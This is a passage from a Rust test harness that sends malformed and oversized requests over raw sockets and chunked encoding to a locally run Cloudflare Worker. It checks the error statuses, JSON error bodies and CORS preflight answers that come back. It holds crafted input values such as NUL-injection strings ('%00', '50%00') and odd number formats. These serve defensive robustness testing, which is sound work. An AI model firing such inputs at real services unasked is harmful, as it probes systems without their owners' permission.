        ("over u64", "99999999999999999999999"),
        ("NUL", "%00"),
        ("exponent", "1e1"),
        ("hexadecimal", "0x10"),
        ("fullwidth digit", "%EF%BC%95"),
        ("with NUL after", "50%00"),
    ]
    .into_iter()
    .map(|(what, limit)| (what, limit.to_owned()))
    .collect()
}

// ----- running cases -----

/// Runs every case one after the other; returns what each wrong one got.
async fn run_cases(e: &Edge, cases: &[Case]) -> Vec<String> {
    let mut wrong = Vec::new();
    for case in cases {
        if let Err(why) = run_case(e, case).await {
            wrong.push(why);
        }
    }
    wrong
}

/// A whole answer, from either wire.
struct Answer {
    status: u16,
    content_type: String,
    /// Its `access-control-allow-origin`.
    allow_origin: Option<String>,
    body: Vec<u8>,
    /// Why the body ended early, if the connection dropped in the middle of it.
    cut: Option<String>,
}

/// `wrangler dev`'s own answer when a Worker answers a streamed (chunked)
/// body before reading it whole: its proxy, still sending the body, loses the
/// connection and answers this in the Worker's place (a plain JS Worker that
/// reads 8 KiB then answers gets the same). It hides the Worker's answer.
fn is_dev_proxy_cut(answer: &Answer) -> bool {
    answer.status == 503 && String::from_utf8_lossy(&answer.body).contains("Your worker restarted mid-request")
}

/// Tries of a case the proxy cuts; after them a chunked case is called
/// inconclusive: the proxy cuts about half of the small ones, and every 10 MB one.
const CHUNKED_TRIES: u32 = 8;

async fn run_case(e: &Edge, case: &Case) -> Result<(), String> {
    let send = || async { send(e, case).await.map_err(|why| format!("{}\n      no answer: {why}", case.label())) };
    let chunked = case.wire == Wire::Chunked;
    let mut tries = 0;
    // The proxy resets, now and then, the connection of an oversized body the
    // Worker refuses early, before its answer is read; and cuts, now and then,
    // a body with a Content-Length that the Worker refuses early (and about
    // half the chunked ones): sent again, and inconclusive if that goes on
    // (it happens under load).
    let answer = loop {
        tries += 1;
        let last = tries >= CHUNKED_TRIES;
        match send().await {
            Err(_) if case.area == Area::Sizes && !last => tokio::time::sleep(Duration::from_millis(200)).await,
            Err(why) if case.area == Area::Sizes => {
                eprintln!("[hostile] inconclusive: wrangler dev's proxy reset all {tries} tries: {why}");
                return Ok(());
            }
            Err(why) => return Err(why),
            Ok(answer) if !last && (is_dev_proxy_cut(&answer) || (chunked && answer.cut.is_some())) => {}
            Ok(answer) => break answer,
        }
    };
    if chunked {
        if is_dev_proxy_cut(&answer) {
            eprintln!("[hostile] inconclusive: wrangler dev's proxy cut all {tries} tries of {}", case.label());
            return Ok(());
        }
        // The proxy also drops the body of the Worker's early answer: its status is all there is to check.
        let (Expect::Error(expected, _) | Expect::Ok(expected) | Expect::Empty(expected)) = case.expect;
        if answer.cut.is_some() && answer.status == expected {
            eprintln!(
                "[hostile] status only: {expected} seen, its body cut by wrangler dev's proxy ({tries} tries): {}",
                case.label()
            );
            return Ok(());
        }
    }
    check(&answer, case).map_err(|why| {
        let server_error = if answer.status >= 500 { " (5xx!)" } else { "" };
        let cut = answer.cut.as_ref().map(|cut| format!(" (body cut: {cut})")).unwrap_or_default();
        format!("{}\n      {why}{server_error}: {} {}{cut}", case.label(), answer.status, shorten(&answer.body, 300))
    })
}

fn check(answer: &Answer, case: &Case) -> Result<(), String> {
    match case.expect {
        Expect::Error(status, code) => {
            ensure!(answer.status == status, "expected {status} {code}, got");
            ensure!(answer.content_type.starts_with("application/json"), "content-type {:?}, got", answer.content_type);
            let body: ErrorBody =
                serde_json::from_slice(&answer.body).map_err(|e| format!("not an error body ({e}), got"))?;
            ensure!(body.error.code == code, "expected code {code}, got");
            ensure!(!body.error.message.trim().is_empty(), "empty error message, got");
        }
        Expect::Ok(status) => {
            ensure!(answer.status == status, "expected {status}, got");
            serde_json::from_slice::<Value>(&answer.body).map_err(|e| format!("the body is not JSON ({e}), got"))?;
        }
        Expect::Empty(status) => {
            ensure!(answer.status == status, "expected {status}, got");
            ensure!(answer.body.is_empty(), "expected no body, got");
        }
    }
    if case.method == Method::OPTIONS {
        // A preflight let through names the sites that may write; a refused
        // one names none, so that the browser does not send the write.
        match (case.expect, &answer.allow_origin) {
            (Expect::Error(..), Some(origin)) => {
                return Err(format!("access-control-allow-origin {origin:?} on a refused preflight, got"));
            }
            (Expect::Empty(_), None) => return Err("no access-control-allow-origin, got".into()),
            _ => {}
        }
    }
    Ok(())
}

async fn send(e: &Edge, case: &Case) -> Result<Answer, String> {
    if case.wire != Wire::Client {
        let request = raw_request(e.port(), case);
        return tokio::task::spawn_blocking(move || request.exchange()).await.map_err(|e| format!("{e}"))?;
    }
    let path = String::from_utf8(case.path.clone()).map_err(|_| "a non-UTF-8 path needs Wire::Raw".to_owned())?;
    let mut req = e.req(case.method.clone(), &path);
    for value in &case.authorization {
        let value = std::str::from_utf8(value).map_err(|_| "a non-UTF-8 header needs Wire::Raw".to_owned())?;
        req = req.header("authorization", value);
    }
    for (name, value) in &case.headers {
        req = req.header(name, value);
    }
    if !matches!(case.body, Body::None) {
        req = req.raw(case.body.bytes());
    }
    // The harness panics when there is no answer at all: a failed case, not a failed step.
    let resp = tokio::spawn(req.send()).await.map_err(|e| match e.try_into_panic() {
        Ok(panic) => panic.downcast_ref::<String>().cloned().unwrap_or_else(|| "panicked".into()),
        Err(e) => e.to_string(),
    })?;
    let content_type = resp.header("content-type").unwrap_or_default();
    let allow_origin = resp.header("access-control-allow-origin");
    Ok(Answer { status: resp.status, content_type, allow_origin, body: resp.body, cut: None })
}

/// A request written byte for byte on a socket.
struct RawRequest {
    port: u16,
    head: Vec<u8>,
    body: Vec<u8>,
    wire: Wire,
}

fn raw_request(port: u16, case: &Case) -> RawRequest {
    let mut head = format!("{} ", case.method).into_bytes();
    head.extend_from_slice(&case.path);
    head.extend_from_slice(format!(" HTTP/1.1\r\nhost: 127.0.0.1:{port}\r\nconnection: close\r\n").as_bytes());
    for value in &case.authorization {
        head.extend_from_slice(b"authorization: ");
        head.extend_from_slice(value);
        head.extend_from_slice(b"\r\n");
    }
    for (name, value) in &case.headers {
        head.extend_from_slice(format!("{name}: {value}\r\n").as_bytes());
    }
    let body = case.body.bytes();
    let framing = match case.wire {
        Wire::Chunked => "content-type: application/json\r\ntransfer-encoding: chunked\r\n".to_owned(),
        _ if matches!(case.body, Body::None) => String::new(),
        _ => format!("content-type: application/json\r\ncontent-length: {}\r\n", body.len()),
    };
    head.extend_from_slice(framing.as_bytes());
    head.extend_from_slice(b"\r\n");
    RawRequest { port, head, body, wire: case.wire }
}

impl RawRequest {
    /// Writes the request from one thread while reading the answer on this
    /// one: the edge may answer (413) before the body is all sent.
    fn exchange(self) -> Result<Answer, String> {
        let stream = TcpStream::connect(("127.0.0.1", self.port)).map_err(|e| format!("connect: {e}"))?;
        stream.set_read_timeout(Some(Duration::from_secs(30))).map_err(|e| e.to_string())?;
        stream.set_write_timeout(Some(Duration::from_secs(30))).map_err(|e| e.to_string())?;
        let mut writer = stream.try_clone().map_err(|e| e.to_string())?;
        let RawRequest { head, body, wire, .. } = self;
        let sender = std::thread::spawn(move || -> std::io::Result<()> {
            writer.write_all(&head)?;
            if wire == Wire::Chunked {
                for chunk in body.chunks(64 * 1024) {
                    writer.write_all(format!("{:x}\r\n", chunk.len()).as_bytes())?;
                    writer.write_all(chunk)?;
                    writer.write_all(b"\r\n")?;
                }
                writer.write_all(b"0\r\n\r\n")?;
            } else {
                writer.write_all(&body)?;
            }
            writer.flush()
        });
        let answer = read_answer(&mut BufReader::new(&stream));
        let _ = stream.shutdown(Shutdown::Both);
        // A write cut short by the edge's early answer is expected; the answer is what counts.
        let _ = sender.join();
        answer
    }
}

fn read_answer(reader: &mut impl BufRead) -> Result<Answer, String> {
    let line = |reader: &mut dyn BufRead| -> Result<String, String> {
        let mut line = Vec::new();
        reader.read_until(b'\n', &mut line).map_err(|e| format!("reading the answer: {e}"))?;
        Ok(String::from_utf8_lossy(&line).trim_end().to_owned())
    };
    let status_line = line(reader)?;
    let status: u16 = status_line
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| format!("no status line: {status_line:?}"))?;
    let mut headers = BTreeMap::new();
    loop {
        let header = line(reader)?;
        if header.is_empty() {
            break;
        }
        if let Some((name, value)) = header.split_once(':') {
            headers.insert(name.trim().to_ascii_lowercase(), value.trim().to_owned());
        }
    }
    let content_type = headers.get("content-type").cloned().unwrap_or_default();
    let allow_origin = headers.get("access-control-allow-origin").cloned();
    let mut body = Vec::new();
    let cut = read_body(reader, status, &headers, &mut body).err();
    Ok(Answer { status, content_type, allow_origin, body, cut })
}

fn read_body(
    reader: &mut impl BufRead,
    status: u16,
    headers: &BTreeMap<String, String>,
    body: &mut Vec<u8>,
) -> Result<(), String> {
    if status == 101 || status == 204 || status == 304 {
        // No body.
    } else if let Some(len) = headers.get("content-length") {
        let len: usize = len.parse().map_err(|_| format!("content-length {len:?}"))?;
        let read = reader.take(len as u64).read_to_end(body).map_err(|e| format!("reading the body: {e}"))?;
        ensure!(read == len, "the body ended after {read} of {len} bytes");
    } else if headers.get("transfer-encoding").is_some_and(|te| te.eq_ignore_ascii_case("chunked")) {
        loop {
            let mut size = String::new();
            reader.read_line(&mut size).map_err(|e| format!("reading a chunk size: {e}"))?;
            let size = usize::from_str_radix(size.split(';').next().unwrap_or("").trim(), 16)
                .map_err(|_| format!("chunk size {size:?}"))?;
            if size == 0 {
                break;
            }
            let read = reader.take(size as u64).read_to_end(body).map_err(|e| format!("reading a chunk: {e}"))?;
            ensure!(read == size, "a chunk ended after {read} of {size} bytes");
            reader.read_line(&mut String::new()).map_err(|e| format!("reading a chunk end: {e}"))?;
        }
    } else {
        reader.read_to_end(body).map_err(|e| format!("reading the body: {e}"))?;
    }
    Ok(())
}
